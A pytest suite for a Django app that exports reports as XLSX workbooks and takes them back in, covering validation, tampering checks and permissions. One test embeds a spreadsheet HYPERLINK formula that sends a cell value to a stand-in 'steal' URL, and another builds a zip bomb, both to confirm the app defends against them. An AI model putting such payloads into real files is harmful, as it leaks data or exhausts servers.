"""The offline XLSX round trip: download a report, fill it in as a person would, upload it."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import formats, timezone
from openpyxl import Workbook, load_workbook

from lintas.audit.models import AuditEntry
from lintas.policy import SYSTEM
from lintas.reporting import offline, services
from lintas.reporting.models import Field, Submission, SubmissionRevision
from lintas.reporting.offline import layout, read
from tests.conftest import sign_in
from tests.reporting.conftest import GOOD, STRUCTURE, Regime

NOW = dt.datetime(2024, 4, 5, 3, 0, tzinfo=dt.UTC)
NOT_XLSX = (
    "This is not an XLSX workbook. Save the file in Excel or LibreOffice as “Excel workbook "
    "(.xlsx)”, without a password, and upload it again."
)
# rows of the report sheet for STRUCTURE: a title row per section, then one row per question
ROW = {
    "cases": 7,
    "victims": 8,
    "rate": 9,
    "hotline": 10,
    "hotline_gap": 11,
    "situation": 13,
    "channel": 14,
    "trainings": 15,
}


@pytest.fixture(autouse=True)
def _in_april_2024() -> Iterator[None]:
    # March 2024 is due on 10 April and locks on 30 April
    with time_machine.travel(NOW, tick=False):
        yield


def _draft(regime: Regime, period: str = "2024-03") -> Submission:
    c = regime.cast
    sub = services.start_submission(
        obligation=regime.obligation, unit=c.unit_a, period_key=period, by=c.focal_a
    )
    services.save_draft(sub, data=GOOD, revision=sub.revision, by=c.focal_a)
    return sub


def _open(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def _save(wb: Workbook) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _url(name: str, sub: Submission) -> str:
    return reverse(name, kwargs={"slug": sub.obligation.body.slug, "submission_id": sub.pk})


def _upload(client: Client, sub: Submission, content: bytes, name: str = "report.xlsx") -> Any:
    upload = SimpleUploadedFile(name, content, content_type=offline.CONTENT_TYPE)
    return client.post(_url("reporting:submission-upload", sub), {"file": upload})


def _problems(response: Any) -> list[tuple[str, str, str]]:
    return [tuple(p) for p in response.context["problems"]]


def _list_values(wb: Workbook, formula: str) -> list[str]:
    sheet, cells = formula.split("!")
    first, last = cells.replace("$", "").split(":")
    return [c.value for row in wb[sheet.strip("'")][f"{first}:{last}"] for c in row]


# --- the workbook ----------------------------------------------------------------------------


def test_the_workbook_holds_the_questions_help_rules_and_answers(regime: Regime) -> None:
    Field.objects.filter(code="cases").update(
        help={"en": "Count each case once.", "vi": "Mỗi vụ đếm một lần."}
    )
    wb = _open(offline.build_workbook(_draft(regime), "en"))

    assert wb.sheetnames == ["Report", "trainings", "lintas", "lists"]
    ws = wb["Report"]
    assert ws["B1"].value == "Monthly situation report"
    assert ws["B2"].value == "Agency A · 2024-03 (2024-03-01 to 2024-03-31)"
    labels = {code: ws[f"B{row}"].value for code, row in ROW.items()}
    assert labels == {
        "cases": "Cases identified *",
        "victims": "Victims assisted *",
        "rate": "Share of cases referred",
        "hotline": "Hotline open all month",
        "hotline_gap": "Why was the hotline closed?",
        "situation": "Situation in the period *",
        "channel": "Main recruitment channel",
        "trainings": "Trainings held",
    }
    assert [ws["B6"].value, ws["B12"].value] == ["Figures", "Situation"]
    assert ws["D7"].value == "Count each case once.\nA whole number, at least 0."
    assert ws["D11"].value == (
        "Text, at most 20000 characters.\nRequired when “Hotline open all month” is No."
    )
    assert ws["D14"].value == ("One of: Online job advertisement; Social media; Acquaintance.")
    answers = {code: ws[f"C{row}"].value for code, row in ROW.items()}
    assert answers == {
        "cases": 12,
        "victims": 9,
        "rate": 0.5,
        "hotline": "Yes",
        "hotline_gap": None,
        "situation": GOOD["situation"],
        "channel": "Online job advertisement",
        "trainings": "See the sheet “trainings”",
    }

    rules = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    assert set(rules) == {"C7", "C8", "C9", "C10", "C11", "C13", "C14"}
    assert (rules["C7"].type, rules["C7"].formula1, rules["C7"].formula2) == (
        "whole",
        "0",
        "999999999999999",
    )
    assert rules["C7"].prompt == "A whole number, at least 0."
    assert rules["C9"].type == "decimal"
    assert (rules["C11"].type, rules["C11"].formula1) == ("textLength", "20000")
    assert rules["C10"].type == rules["C14"].type == "list"
    assert _list_values(wb, rules["C10"].formula1) == ["Yes", "No"]
    assert _list_values(wb, rules["C14"].formula1) == [
        "Online job advertisement",
        "Social media",
        "Acquaintance",
    ]

    table = wb["trainings"]
    assert [c.value for c in table[1]] == ["Title *", "Date", "People"]
    row = [table["A2"].value, table["B2"].value.date(), table["C2"].value]
    assert row == ["Border officers", dt.date(2024, 3, 5), 30]
    assert table["B2"].number_format == "yyyy-mm-dd"
    table_rules = {str(dv.sqref): dv.type for dv in table.data_validations.dataValidation}
    assert table_rules == {"A2:A501": "textLength", "B2:B501": "date", "C2:C501": "whole"}

    # only the answer cells can be typed in; the identification is out of sight
    assert ws.protection.sheet and table.protection.sheet
    assert ws["B7"].protection.locked and not ws["C7"].protection.locked
    assert not table["A3"].protection.locked
    assert wb["lintas"].sheet_state == "veryHidden"
    assert wb["lists"].sheet_state == "hidden"
    assert [c.value for c in wb["lintas"]["A"]] == list(layout.META_KEYS)


def test_the_workbook_speaks_the_language_it_is_asked_for(regime: Regime) -> None:
    wb = _open(offline.build_workbook(_draft(regime), "vi"))
    ws = wb["Báo cáo"]
    assert ws["B7"].value == "Số vụ phát hiện *"
    assert ws["B2"].value.startswith("Agency A")
    assert ws["C10"].value == "Có"


def test_an_answer_that_looks_like_a_formula_stays_text(regime: Regime) -> None:
    sub = _draft(regime)
    formula = '=HYPERLINK("http://example.org/steal?x="&C7,"open")'
    services.save_draft(
        sub, data={**GOOD, "situation": formula}, revision=sub.revision, by=regime.cast.focal_a
    )
    cell = _open(offline.build_workbook(sub, "en"))["Report"]["C13"]
    assert (cell.value, cell.data_type) == (formula, "s")


# --- a good file -----------------------------------------------------------------------------


def test_a_filled_file_becomes_the_draft_and_is_not_submitted(
    regime: Regime, client_for: Callable[..., Client]
) -> None:
    sub = _draft(regime)
    client = client_for(regime.cast.focal_a)
    response = client.get(_url("reporting:submission-xlsx", sub))
    assert response.status_code == 200
    assert response["Content-Type"] == offline.CONTENT_TYPE
    assert response["Content-Disposition"] == (
        'attachment; filename="monthly-situation-agency-a-2024-03.xlsx"'
    )

    wb = _open(response.content)  # filled in as a person would, then saved
    ws = wb["Report"]
    ws["C7"] = 20
    ws["C8"] = 15
    ws["C9"] = 0.25
    ws["C10"] = "No"
    ws["C11"] = "Power cut for a week"
    ws["C14"] = "Social media"
    table = wb["trainings"]
    table["A3"], table["B3"], table["C3"] = "Prosecutors", dt.date(2024, 3, 20), 12
    response = _upload(client, sub, _save(wb))

    assert response.status_code == 302
    assert response["Location"] == _url("reporting:submission-edit", sub)
    revision = sub.revision
    sub.refresh_from_db()
    assert sub.data == {
        "cases": 20,
        "victims": 15,
        "rate": "0.25",
        "hotline": False,
        "hotline_gap": "Power cut for a week",
        "situation": GOOD["situation"],
        "channel": "social_media",
        "trainings": [
            {"title": "Border officers", "date": "2024-03-05", "people": 30},
            {"title": "Prosecutors", "date": "2024-03-20", "people": 12},
        ],
    }
    assert sub.state == Submission.State.DRAFT
    assert sub.revision == revision + 1
    assert sub.revisions.order_by("-number").values_list("source", flat=True)[0] == "xlsx"
    entry = AuditEntry.objects.get(action="reporting.submission.uploaded")
    assert (entry.actor, entry.object_id) == (regime.cast.focal_a, str(sub.pk))
    page = client.get(response["Location"])
    assert "The file was taken in as the draft." in page.content.decode()


def test_a_file_reads_back_in_its_own_language(regime: Regime) -> None:
    sub = _draft(regime)
    wb = _open(offline.build_workbook(sub, "vi"))
    wb["Báo cáo"]["C10"] = "Không"
    answers = offline.read_workbook(sub, _save(wb))
    assert answers["hotline"] is False
    assert answers["channel"] == "online_ad"


def test_an_unchanged_file_saves_the_same_answers(regime: Regime) -> None:
    sub = _draft(regime)
    data = sub.data
    services.upload_workbook(sub, content=offline.build_workbook(sub, "en"), by=regime.cast.focal_a)
    sub.refresh_from_db()
    assert sub.data == data


# --- refused files ---------------------------------------------------------------------------


def _fill(changes: dict[str, Any]) -> Callable[[Workbook, Regime], None]:
    def edit(wb: Workbook, regime: Regime) -> None:
        for ref, value in changes.items():
            sheet, cell = ref.split("!")
            wb[sheet][cell] = value

    return edit


def _drop_sheet(wb: Workbook, regime: Regime) -> None:
    wb.remove(wb["trainings"])


def _insert_row(wb: Workbook, regime: Regime) -> None:
    wb["Report"].insert_rows(8)


FRESH = " Download a fresh file from the report's page."
KEEP = " Keep the sheets and rows as they are, or download a fresh file."
REFUSALS: dict[str, tuple[Callable[[Workbook, Regime], None], list[tuple[str, str, str]]]] = {
    "a changed signature": (
        _fill({"lintas!B6": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}),
        [
            (
                "lintas",
                "B6",
                "The file's identification was changed or is damaged, or the file was not "
                "made by this site." + FRESH,
            )
        ],
    ),
    "a changed revision under the signature": (
        _fill({"lintas!B4": 99}),
        [
            (
                "lintas",
                "B6",
                "The file's identification was changed or is damaged, or the file was not "
                "made by this site." + FRESH,
            )
        ],
    ),
    "a whole number that is text": (
        _fill({"Report!C7": "abc"}),
        [("Report", "C7", "“abc” is not a whole number.")],
    ),
    "a value outside the choices, and a bad date in a table": (
        _fill({"Report!C14": "Carrier pigeon", "trainings!B2": "next week"}),
        [
            (
                "Report",
                "C14",
                "“Carrier pigeon” is not one of the choices: Online job advertisement, "
                "Social media, Acquaintance.",
            ),
            (
                "trainings",
                "B2",
                "“next week” is not a date: write it as 2024-03-02, 02/03/2024, 02.03.2024, "
                "2-Mar-2024, 2 March 2024 (day before month).",
            ),
        ],
    ),
    "answers the normal checks refuse": (
        _fill({"Report!C8": -1, "Report!C10": "maybe", "trainings!C3": 4, "trainings!A4": "x"}),
        [
            ("Report", "C8", "Must be at least 0."),
            ("Report", "C10", "“maybe” is not Yes or No."),
            ("trainings", "A3", "Required in every row that is filled in."),
        ],
    ),
    "a missing sheet": (_drop_sheet, [("trainings", "", "This sheet is missing." + KEEP)]),
    "rows moved": (
        _insert_row,
        [("Report", "A8", "Rows of this sheet were moved, added or deleted." + KEEP)],
    ),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_a_wrong_file_is_refused_with_every_problem_and_nothing_is_saved(
    regime: Regime, client_for: Callable[..., Client], case: str
) -> None:
    edit, expected = REFUSALS[case]
    sub = _draft(regime)
    before = (sub.data, sub.revision, sub.revisions.count())
    wb = _open(offline.build_workbook(sub, "en"))
    edit(wb, regime)

    response = _upload(client_for(regime.cast.focal_a), sub, _save(wb))

    assert response.status_code == 400
    assert _problems(response) == expected
    assert "nothing was saved" in response.content.decode()
    sub.refresh_from_db()
    assert (sub.data, sub.revision, sub.revisions.count()) == before
    assert not AuditEntry.objects.filter(action="reporting.submission.uploaded").exists()


def _refused(regime: Regime, sub: Submission, content: bytes, name: str = "r.xlsx") -> Any:
    """Upload as unit A's focal point; the answer is 400 and the report is as it was."""
    before = (sub.data, sub.revision, sub.revisions.count())
    response = _upload(sign_in(Client(), regime.cast.focal_a), sub, content, name)
    assert response.status_code == 400
    sub.refresh_from_db()
    assert (sub.data, sub.revision, sub.revisions.count()) == before
    return response


def test_a_file_for_another_report_is_refused_and_recorded(regime: Regime) -> None:
    sub, other = _draft(regime), _draft(regime, period="2024-04")
    response = _refused(regime, sub, offline.build_workbook(other, "en"))
    # named as people know reports, never by an internal number
    assert _problems(response) == [
        (
            "lintas",
            "B2",
            "This file is for another report: “Monthly situation report” of Agency A for April "
            "2024. This page is for “Monthly situation report” of Agency A for March 2024. "
            "Upload the file on that report's page.",
        )
    ]
    entry = AuditEntry.objects.get(action="reporting.submission.upload_refused")
    assert entry.object_id == str(sub.pk)


def test_a_file_based_on_an_older_revision_is_refused(regime: Regime) -> None:
    sub = _draft(regime)
    content = offline.build_workbook(sub, "en")
    services.save_draft(
        sub, data={**GOOD, "cases": 13}, revision=sub.revision, by=regime.cast.focal_a
    )
    response = _refused(regime, sub, content)
    # the time of the other save, shown in the body's time zone (10:00 in Ha Noi)
    with timezone.override(regime.cast.body.tzinfo):
        when = formats.date_format(timezone.localtime(NOW), "SHORT_DATETIME_FORMAT")
    assert _problems(response) == [
        (
            "lintas",
            "B4",
            f"Anh Focal saved this report at {when}, after this file was downloaded. Nothing "
            "was changed. Download a fresh file, copy your answers into it and upload it again.",
        )
    ]
    assert sub.data["cases"] == 13


def test_a_file_for_an_older_template_version_is_refused(regime: Regime) -> None:
    sub = _draft(regime)
    content = offline.build_workbook(sub, "en")
    # the template changes; the draft is moved to the new version (as a migration of drafts would)
    newer = services.revise_template(regime.template, structure=STRUCTURE, by=SYSTEM)
    Submission.objects.filter(pk=sub.pk).update(version=newer)
    sub.refresh_from_db()
    response = _refused(regime, sub, content)
    assert _problems(response) == [
        (
            "lintas",
            "B3",
            "This file was made for version 1 of the report's template; the report now uses "
            "version 2. Download a fresh file and copy your answers into it.",
        )
    ]


def test_a_text_file_named_xlsx_is_refused(regime: Regime) -> None:
    sub = _draft(regime)
    response = _refused(regime, sub, b"cases;victims\n12;9\n", name="report.xlsx")
    assert _problems(response) == [("", "", NOT_XLSX)]


def test_a_zip_that_is_not_a_workbook_is_refused(regime: Regime) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("content.xml", "<office:document-content/>")
    response = _refused(regime, _draft(regime), out.getvalue(), name="report.ods")
    assert _problems(response) == [("", "", NOT_XLSX)]


def test_a_file_too_large_is_refused_before_it_is_read(regime: Regime) -> None:
    content = b"PK" + b"\0" * offline.MAX_UPLOAD_BYTES
    response = _refused(regime, _draft(regime), content)
    assert _problems(response) == [("", "", "The file is larger than 5 MB.")]


def test_a_zip_bomb_is_refused_before_any_xml_is_parsed(
    regime: Regime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(read, "MAX_UNPACKED_BYTES", 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<" * (2 * 1024 * 1024))
    assert len(out.getvalue()) < 20_000
    response = _refused(regime, _draft(regime), out.getvalue())
    assert _problems(response) == [("", "", "The workbook is too large once unpacked.")]


def test_rows_past_the_limit_of_a_table_are_refused(
    regime: Regime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(layout, "MAX_TABLE_ROWS", 3)
    sub = _draft(regime)
    wb = _open(offline.build_workbook(sub, "en"))
    assert {str(dv.sqref) for dv in wb["trainings"].data_validations.dataValidation} == {
        "A2:A4",
        "B2:B4",
        "C2:C4",
    }
    for row in (3, 4, 5):
        wb["trainings"][f"A{row}"] = f"Training {row}"
    response = _refused(regime, sub, _save(wb))
    assert _problems(response) == [
        ("trainings", "A5", "At most 3 rows are read; this row and those below it are not.")
    ]


def test_posting_without_a_file_asks_for_one(
    regime: Regime, client_for: Callable[..., Client]
) -> None:
    sub = _draft(regime)
    response = client_for(regime.cast.focal_a).post(_url("reporting:submission-upload", sub))
    assert response.status_code == 400
    assert _problems(response) == [("", "", "Choose the filled XLSX file to upload.")]


# --- who may ---------------------------------------------------------------------------------


def test_a_reader_may_download_but_not_upload(
    regime: Regime, client_for: Callable[..., Client]
) -> None:
    sub = _draft(regime)
    leader = client_for(regime.cast.leader)
    assert leader.get(_url("reporting:submission-xlsx", sub)).status_code == 200
    content = offline.build_workbook(sub, "en")
    assert _upload(leader, sub, content).status_code == 403
    stranger = client_for(regime.cast.focal_c)
    assert stranger.get(_url("reporting:submission-xlsx", sub)).status_code == 404
    assert _upload(stranger, sub, content).status_code == 404
    assert sub.revisions.count() == 1


def test_a_submitted_report_takes_no_file(
    regime: Regime, client_for: Callable[..., Client]
) -> None:
    sub = _draft(regime)
    content = offline.build_workbook(sub, "en")
    services.submit_report(sub, by=regime.cast.focal_a)
    response = _upload(client_for(regime.cast.focal_a), sub, content)
    assert response.status_code == 302
    assert response["Location"] == _url("reporting:submission-detail", sub)
    sub.refresh_from_db()
    assert sub.state == Submission.State.SUBMITTED
    assert SubmissionRevision.objects.filter(submission=sub, source="xlsx").count() == 0
